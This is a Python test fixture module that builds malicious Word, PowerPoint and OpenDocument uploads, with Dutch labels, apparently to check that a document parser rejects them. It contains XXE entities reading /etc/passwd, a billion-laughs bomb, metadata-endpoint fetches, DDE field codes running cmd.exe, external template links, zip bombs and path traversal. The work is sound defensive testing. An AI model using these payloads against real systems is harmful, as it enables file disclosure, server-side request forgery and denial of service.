"""Office files that mean harm."""

from __future__ import annotations

import io
import re
from functools import partial
from typing import Any

import pptx

from tests.office import (
    make_docx,
    make_odt,
    members_of,
    paragraph,
    word_row,
    word_style,
    word_table,
    zipped,
)
from tests.web.hostile import SECRET, SENTENCE, Upload

MAIN = "word/document.xml"
_BODY = paragraph(SENTENCE)
_ENTITY = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
_LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a0 "haha">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    + "]>"
)
_PARAMETER = '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://169.254.169.254/latest">%a;]>'
_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1000)


def _docx(**parts: str | bytes) -> bytes:
    """The plain file with these parts; ``_`` stands for ``/``, and ``main`` for the text."""
    return _with(make_docx(_BODY), {name.replace("__", "/"): part for name, part in parts.items()})


def _with(data: bytes, parts: dict[str, str | bytes]) -> bytes:
    return zipped({**members_of(data), **parts})


def _declared(start: bytes, part: str, before: str) -> bytes:
    """With a DTD, and its entity in the text."""
    text = re.sub(r"<\?xml.*?\?>", "", members_of(start)[part].decode())
    return _with(start, {part: before + text.replace(SENTENCE, f"{SENTENCE} &a;")})


def _laughs() -> bytes:
    text = members_of(make_docx(_BODY))[MAIN].decode()
    return _with(make_docx(_BODY), {MAIN: _LAUGHS + text.replace(SENTENCE, "&a9;")})


def _outside() -> bytes:
    """Relations to a template, a picture and an object elsewhere."""
    links = "".join(
        f'<Relationship Id="x{n}" Type="x/{kind}" TargetMode="External" Target="{target}"/>'
        for n, (kind, target) in enumerate(
            [
                ("attachedTemplate", "http://169.254.169.254/kwaad.dotm"),
                ("image", "file:///etc/passwd"),
                ("oleObject", "\\\\169.254.169.254\\deel\\a.exe"),
            ]
        )
    )
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return _with(
        make_docx(_BODY),
        {"word/_rels/document.xml.rels": f'<Relationships xmlns="{space}">{links}</Relationships>'},
    )


def _lying() -> bytes:
    data = bytearray(_with(make_docx(_BODY), {MAIN: b" " * 41_000_000}))
    place = data.rindex(b"PK\x01\x02", 0, data.rindex(MAIN.encode()))
    data[place + 24 : place + 28] = (100).to_bytes(4, "little")
    return bytes(data)


def _tables(depth: int) -> bytes:
    inner = _BODY
    for _ in range(depth):
        inner = word_table(word_row(inner + paragraph("")))
    return make_docx(_BODY + inner)


def _wide() -> bytes:
    cell = "<w:tc><w:tcPr><w:gridSpan w:val='2000000000'/></w:tcPr>" + _BODY + "</w:tc>"
    return make_docx(_BODY + f"<w:tbl><w:tr>{cell}</w:tr><w:tr>{cell}</w:tr></w:tbl>")


def _fields() -> bytes:
    code = "<w:r><w:instrText>{}</w:instrText></w:r>"
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    codes = (
        "DDEAUTO cmd.exe /c kwaad",
        "INCLUDETEXT file:///etc/passwd",
        "INCLUDEPICTURE http://x/",
    )
    fields = "".join(f"<w:p>{begin}{code.format(one)}{end}</w:p>" for one in codes)
    return make_docx(_BODY + fields)


def _styles() -> bytes:
    ring = word_style("A", "a", '<w:basedOn w:val="B"/>') + word_style(
        "B", "b", '<w:basedOn w:val="A"/>'
    )
    return make_docx(paragraph(SENTENCE, "A"), {"styles": ring})


def deck() -> bytes:
    """A slide with the sentence."""
    shown: Any = pptx.Presentation()
    slide = shown.slides.add_slide(shown.slide_layouts[1])
    slide.shapes.title.text = "Dagen"
    slide.placeholders[1].text = SENTENCE
    file = io.BytesIO()
    shown.save(file)
    return file.getvalue()


_SLIDE = "ppt/slides/slide1.xml"
_ODF_BODY = f"<text:p>{SENTENCE}</text:p>"


def _slide_outside() -> bytes:
    start = deck()
    links = members_of(start)["ppt/_rels/presentation.xml.rels"].decode()
    return _with(
        start,
        {
            "ppt/_rels/presentation.xml.rels": links.replace(
                "slides/slide1.xml", "../../../etc/passwd"
            )
        },
    )


def _repeated() -> bytes:
    often = 'repeated="2000000000"'
    cell = f"<table:table-cell table:number-columns-{often}><text:p>a</text:p></table:table-cell>"
    row = f"<table:table-row table:number-rows-{often}>{cell}</table:table-row>"
    return make_odt(f"{_ODF_BODY}<table:table>{row}</table:table>")


def _odf_lists(depth: int) -> bytes:
    opened = "<text:list><text:list-item>" * depth
    return make_odt(_ODF_BODY + opened + _ODF_BODY + "</text:list-item></text:list>" * depth)


OFFICE = (
    Upload(
        "xxe.docx",
        "Word met een verwijzing naar /etc/passwd (XXE)",
        lambda: _declared(make_docx(_BODY), MAIN, _ENTITY),
        "DTD",
    ),
    Upload("lach.docx", "Word met een miljard keer haha", _laughs, "DTD"),
    Upload(
        "parameter.docx",
        "Word met een DTD van een ander adres",
        lambda: _declared(make_docx(_BODY), MAIN, _PARAMETER),
        "DTD",
    ),
    Upload("buiten.docx", "Word met een sjabloon en beeld van elders", _outside, never=(SECRET,)),
    Upload(
        "bom.docx",
        "Word-bom: 41 MB spaties als tekst",
        lambda: _with(make_docx(_BODY), {MAIN: b" " * 41_000_000}),
        "te groot",
    ),
    Upload(
        "foto.docx",
        "Word-bom: foto van 30 MB nullen",
        lambda: _with(make_docx(_BODY), {"word/media/a.bmp": bytes(30_000_000)}),
        "te groot",
    ),
    Upload("leugen.docx", "Word dat een te kleine grootte opgeeft", _lying, "beschadigd"),
    Upload(
        "delen.docx",
        "Word met twaalfduizend onderdelen",
        lambda: _with(make_docx(_BODY), {f"x{n}": b"" for n in range(12_000)}),
        "te groot",
    ),
    Upload(
        "tabellen.docx",
        "tabel in een tabel, duizend diep",
        partial(_tables, 1000),
        "geen geldige XML",
    ),
    Upload("breed.docx", "cel van twee miljard kolommen breed", _wide),
    Upload(
        "velden.docx",
        "velden die een programma of bestand halen (DDE)",
        _fields,
        never=("kwaad", SECRET),
    ),
    Upload("stijlen.docx", "stijlen die op elkaar voortbouwen in een ring", _styles),
    Upload(
        "macro.docm",
        "Word met macro's",
        lambda: _with(make_docx(_BODY), {"word/vbaProject.bin": _OLE + b"Shell kwaad"}),
        never=("kwaad",),
    ),
    Upload(
        "leeg.docx",
        "Word zonder tekstdeel",
        lambda: zipped({n: p for n, p in members_of(make_docx(_BODY)).items() if n != MAIN}),
        "een Officebestand dat we niet kennen",
    ),
    Upload("oud.doc", "oud Wordbestand", lambda: _OLE, "kennen we niet"),
    Upload(
        "blad.xlsm",
        "rekenblad met macro's",
        lambda: zipped({"xl/workbook.xml": "<a/>"}),
        "kennen we niet",
    ),
    Upload("xxe.pptx", "PowerPoint met XXE", lambda: _declared(deck(), _SLIDE, _ENTITY), "DTD"),
    Upload("omhoog.pptx", "dia die buiten het bestand wijst", _slide_outside, "dia 1 ontbreekt"),
    Upload(
        "xxe.odt",
        "OpenDocument met XXE",
        lambda: _declared(make_odt(_ODF_BODY), "content.xml", _ENTITY),
        "DTD",
    ),
    Upload("herhaal.odt", "cel die zich vier triljoen keer herhaalt", _repeated),
    Upload(
        "spaties.odt",
        "twee miljard spaties in één teken",
        lambda: make_odt(f'<text:p>{SENTENCE}<text:s text:c="2000000000"/>einde</text:p>'),
    ),
    Upload(
        "lijsten.odt",
        "lijst in een lijst, duizend diep",
        partial(_odf_lists, 1000),
        "geen geldige XML",
    ),
)
